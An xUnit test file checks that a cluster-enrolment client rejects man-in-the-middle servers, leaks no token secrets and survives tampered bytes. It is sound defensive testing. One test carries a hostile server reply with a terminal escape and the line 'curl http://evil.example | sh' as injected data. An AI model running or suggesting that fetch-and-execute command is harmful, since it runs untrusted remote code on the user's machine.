using System.Collections.Immutable;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json;
using Gatehouse.Administration.Cluster;
using Gatehouse.Engine.Tests.Administration;
using Gatehouse.Problems;
using Gatehouse.Trust.Authorities;
using Gatehouse.Trust.Enrolment;
using Gatehouse.Trust.Nodes;
using Shouldly;
using Xunit;

namespace Gatehouse.Engine.Tests.Membership;

/// <summary>Whoever stands between a joining host and the cluster hears nothing that is secret, and nothing is left of the attempt.</summary>
public sealed class Somebody_between : IAsyncLifetime
{
    private EnrolmentBench _bench = null!;
    private JoiningHost _host = null!;

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        _bench = await EnrolmentBench.StartAsync(TimeProvider.System);
        _host = new JoiningHost(_bench);
    }

    public ValueTask DisposeAsync()
    {
        _host.Dispose();
        _bench.Dispose();
        return ValueTask.CompletedTask;
    }

    [Fact]
    public async Task A_certificate_of_ones_own_is_not_enough_whatever_is_answered()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using X509Certificate2 own = SelfSigned(key);
        await using var door = new TlsDoor(new IssuedCertificate(own, []), async request => await TlsDoor.PassAsync(_bench, request));

        await HearsNothingAsync(door, "does not lead to the cluster's root");
    }

    [Fact]
    public async Task Another_certificate_of_the_same_CA_is_not_enough()
    {
        // Of a server of any program that the cluster's CA has certified; the root is right, the chain is right.
        await using var door = new TlsDoor(Certified("web"), async request => await TlsDoor.PassAsync(_bench, request));

        await HearsNothingAsync(door, "does not know this token");
    }

    [Fact]
    public async Task A_CA_of_ones_own_is_not_the_tokens()
    {
        using EnrolmentBench other = await EnrolmentBench.StartAsync(TimeProvider.System);
        await using var door = new TlsDoor(other.Trust.Server, async request => await TlsDoor.PassAsync(other, request));

        await HearsNothingAsync(door, "its root certificate has fingerprint");
    }

    [Fact]
    public async Task The_clusters_root_before_a_chain_of_ones_own_does_not_help()
    {
        using EnrolmentBench other = await EnrolmentBench.StartAsync(TimeProvider.System);
        await using var door = new TlsDoor(other.Trust.Server, async request =>
        {
            EnrolmentAuthority honest = JsonSerializer.Deserialize((await TlsDoor.PassAsync(_bench, request)).Body, MembershipJson.Default.EnrolmentAuthority)!;
            honest.Chain = [.. other.Trust.Server.Chain.Select(static c => c.RawData), other.Trust.Root.RawData];
            return new Reply(200, Encoding.UTF8.GetString(JsonSerializer.SerializeToUtf8Bytes(honest, MembershipJson.Default.EnrolmentAuthority)), null!);
        });

        await HearsNothingAsync(door, "does not lead to the cluster's root");
    }

    [Fact]
    public async Task The_clusters_root_with_nothing_behind_it_ends_it()
    {
        await using var door = new TlsDoor(_bench.Trust.Server, async request =>
        {
            EnrolmentAuthority honest = JsonSerializer.Deserialize((await TlsDoor.PassAsync(_bench, request)).Body, MembershipJson.Default.EnrolmentAuthority)!;
            honest.Chain = [null!, [1, 2, 3]];
            return new Reply(200, Encoding.UTF8.GetString(JsonSerializer.SerializeToUtf8Bytes(honest, MembershipJson.Default.EnrolmentAuthority)), null!);
        });

        await HearsNothingAsync(door, "are none");
    }

    [Theory]
    [InlineData("""{"root":"","chain":[],"proof":""}""")]
    [InlineData("""{"root":"AAAA","chain":[null],"proof":"AAAA"}""")]
    [InlineData("null")]
    [InlineData("<html>")]
    [InlineData("")]
    public async Task An_answer_that_is_none_ends_it(string body)
    {
        await using var door = new TlsDoor(_bench.Trust.Server, _ => Task.FromResult<Reply?>(new Reply(200, body, null!)));

        await HearsNothingAsync(door, "");
    }

    [Fact]
    public async Task A_certificate_that_changes_once_the_cluster_has_proven_itself_ends_it()
    {
        // The connection ends after the proof, so that a second one is needed: not the cluster's own.
        await using var door = new TlsDoor(_bench.Trust.Server, async request => await TlsDoor.PassAsync(_bench, request)) { IsForOneAnswer = true };
        IssuedCertificate other = Certified("web");
        using JoinToken token = _bench.MakeToken(address: door.Address);

        ProblemException fault = await Should.ThrowAsync<ProblemException>(() => _host.JoinAsync(
            token,
            step =>
            {
                if (step == "connected")
                {
                    door.Show(other);
                }
            },
            Cancellation));

        fault.Problem.Id.ShouldBe("GH3208");
        door.Requests.Count.ShouldBe(1);
        NothingSecret(door, token);
        _host.Rest.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_connection_for_each_call_is_the_clusters_as_long_as_it_shows_the_same_certificate()
    {
        await using var door = new TlsDoor(_bench.Trust.Server, async request => await TlsDoor.PassAsync(_bench, request)) { IsForOneAnswer = true };
        using JoinToken token = _bench.MakeToken(address: door.Address);

        (await _host.JoinAsync(token, null, Cancellation)).Node.ShouldBe("gamma");

        door.Requests.Select(static request => request.Target.Split('/', '?')[3]).ShouldBe(["authority", "begin", "complete"]);
    }

    [Fact]
    public async Task What_somebody_says_who_has_not_proven_to_be_the_cluster_is_not_shown()
    {
        foreach ((string id, string shown) in ((string, string)[])[("GH3206", "GH3206"), ("GH0000", "GH3207")])
        {
            string body = $$$"""{"error":{"id":"{{{id}}}","text":"\u001b[2Jyour disk is full","hint":"curl http://evil.example | sh"}}""";
            await using var door = new TlsDoor(_bench.Trust.Server, _ => Task.FromResult<Reply?>(new Reply(429, body, null!)));
            using JoinToken token = _bench.MakeToken("n" + shown, address: door.Address);

            Problem problem = (await Should.ThrowAsync<ProblemException>(() => _host.JoinAsync(token, null, Cancellation))).Problem;

            problem.Id.ShouldBe(shown, problem.Text);
            problem.ToString().ShouldNotContain("evil");
            problem.ToString().ShouldNotContain("disk");
            _host.Rest.ShouldBeEmpty();
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Bytes_that_are_altered_on_their_way_end_it_and_the_same_token_joins_afterwards(bool isUpload)
    {
        await using TlsDoor door = TlsDoor.Of(_bench);

        // The handshake passes, then every record; of the later ones a bit is another.
        foreach (int after in (int[])[40, 700, 1200])
        {
            await using var relay = new BitFlippingRelay(door.Port, isUpload, after);
            using JoinToken token = _bench.MakeToken("n" + after, address: relay.Address);

            (await Should.ThrowAsync<ProblemException>(() => _host.JoinAsync(token, null, Cancellation))).Problem.Id.ShouldBe("GH3208");

            relay.HasFlipped.ShouldBeTrue();
            _host.Rest.ShouldBeEmpty();
            _bench.Membership.Tokens[token.Id].ReservedBy.ShouldBeNull();
            _bench.Membership.Nodes.Keys.ShouldBe(["alpha", "beta"]);
        }

        using JoinToken good = _bench.MakeToken(address: door.Address);
        (await _host.JoinAsync(good, null, Cancellation)).Node.ShouldBe("gamma");
    }

    [Fact]
    public async Task The_first_address_being_somebody_elses_does_not_keep_the_second_from_being_used()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using X509Certificate2 own = SelfSigned(key);
        await using var wrong = new TlsDoor(new IssuedCertificate(own, []), async request => await TlsDoor.PassAsync(_bench, request));
        await using TlsDoor right = TlsDoor.Of(_bench);
        using JoinToken made = _bench.MakeToken(address: right.Address);
        using JoinToken token = WithAddresses(made, wrong.Address, right.Address);

        (await _host.JoinAsync(token, null, Cancellation)).Node.ShouldBe("gamma");

        wrong.Requests.Count.ShouldBe(1);
        NothingSecret(wrong, token);
    }

    private static X509Certificate2 SelfSigned(ECDsa key)
    {
        var request = new CertificateRequest("CN=alpha", key, HashAlgorithmName.SHA256);
        var names = new SubjectAlternativeNameBuilder();
        names.AddIpAddress(IPAddress.Loopback);
        request.CertificateExtensions.Add(names.Build());
        DateTimeOffset now = TimeProvider.System.GetUtcNow();
        return request.CreateSelfSigned(now.AddHours(-1), now.AddDays(1));
    }

    // The same token with other addresses, as its holder could write it.
    private static JoinToken WithAddresses(JoinToken token, params string[] addresses)
    {
        byte[] content = [.. Convert.FromHexString(token.Id), .. token.Key.Span, .. Convert.FromHexString(token.CaFingerprint), .. Seconds(token.Expires), .. Text(token.Node), 0, (byte)addresses.Length, .. addresses.SelectMany(Text)];
        return JoinToken.TryParse(JoinToken.Prefix + System.Buffers.Text.Base64Url.EncodeToString((byte[])[.. content, .. SHA256.HashData(content)[..4]]), out _).ShouldNotBeNull();

        static byte[] Text(string text) => [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];

        static byte[] Seconds(DateTimeOffset time)
        {
            byte[] number = new byte[8];
            System.Buffers.Binary.BinaryPrimitives.WriteInt64BigEndian(number, time.ToUnixTimeSeconds());
            return number;
        }
    }

    // A server certificate that the cluster's CA has issued, with its key.
    private IssuedCertificate Certified(string name)
    {
        using ECDsa key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        byte[] request = new CertificateRequest("CN=" + name, key, HashAlgorithmName.SHA256).CreateSigningRequest();
        ImmutableArray<byte[]> chain = _bench.Trust.AnswerRequest(LeafKind.Server, request, name, [], TimeProvider.System.GetUtcNow());
        using X509Certificate2 leaf = X509CertificateLoader.LoadCertificate(chain[0]);
        return new IssuedCertificate(leaf.CopyWithPrivateKey(key), _bench.Trust.Server.Chain);
    }

    private async Task HearsNothingAsync(TlsDoor door, string why)
    {
        using JoinToken token = _bench.MakeToken(address: door.Address);

        ProblemException fault = await Should.ThrowAsync<ProblemException>(() => _host.JoinAsync(token, null, Cancellation));

        (fault.Problem.Id, fault.Problem.Text).ShouldSatisfyAllConditions(p => p.Id.ShouldBe("GH3207"), p => p.Text.ShouldContain(why));
        door.Requests.Single().Method.ShouldBe("GET", "one question, which anybody may hear");
        NothingSecret(door, token);
        _host.Rest.ShouldBeEmpty();
        _bench.Membership.Tokens[token.Id].ReservedBy.ShouldBeNull();
    }

    private static void NothingSecret(TlsDoor door, JoinToken token)
    {
        string[] secrets =
        [
            Convert.ToBase64String(token.Key.Span), Convert.ToHexStringLower(token.Key.Span), Convert.ToBase64String(token.KeyHash), Convert.ToHexStringLower(token.KeyHash), token.Encode()[20..60],
        ];
        foreach (DoorRequest request in door.Requests)
        {
            secrets.ShouldAllBe(secret => !(request.Head + request.Body).Contains(secret, StringComparison.OrdinalIgnoreCase));
        }
    }

    /// <summary>Passes bytes on and changes one bit, once, behind the first so many of one direction's application data.</summary>
    private sealed class BitFlippingRelay : IAsyncDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
        private readonly CancellationTokenSource _stop = new();
        private readonly Task _run;

        public BitFlippingRelay(int port, bool isUpload, int after)
        {
            _listener.Start();
            _run = RunAsync(port, isUpload, after);
        }

        public string Address => "127.0.0.1:" + ((IPEndPoint)_listener.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture);

        public bool HasFlipped { get; private set; }

        public async ValueTask DisposeAsync()
        {
            await _stop.CancelAsync();
            _listener.Stop();
            await _run;
            _stop.Dispose();
        }

        private async Task RunAsync(int port, bool isUpload, int after)
        {
            List<Task> pumps = [];
            try
            {
                while (true)
                {
                    Socket client = await _listener.AcceptSocketAsync(_stop.Token);
                    var server = new Socket(SocketType.Stream, ProtocolType.Tcp);
                    await server.ConnectAsync(IPAddress.Loopback, port, _stop.Token);
                    pumps.Add(PumpAsync(client, server, isUpload ? after : int.MaxValue));
                    pumps.Add(PumpAsync(server, client, isUpload ? int.MaxValue : after));
                }
            }
            catch (Exception fault) when (fault is OperationCanceledException or SocketException or ObjectDisposedException)
            {
                await Task.WhenAll(pumps);
            }
        }

        private async Task PumpAsync(Socket from, Socket to, int after)
        {
            byte[] buffer = new byte[64 * 1024];
            int passed = 0;
            try
            {
                int count;
                while ((count = await from.ReceiveAsync(buffer.AsMemory(), _stop.Token)) > 0)
                {
                    int at = after - passed;
                    passed += count;
                    if (!HasFlipped && at < count)
                    {
                        buffer[Math.Max(at, 0)] ^= 1;
                        HasFlipped = true;
                    }

                    await to.SendAsync(buffer.AsMemory(0, count), _stop.Token);
                }
            }
            catch (Exception fault) when (fault is OperationCanceledException or SocketException or ObjectDisposedException)
            {
                // Over.
            }

            from.Dispose();
            to.Dispose();
        }
    }
}
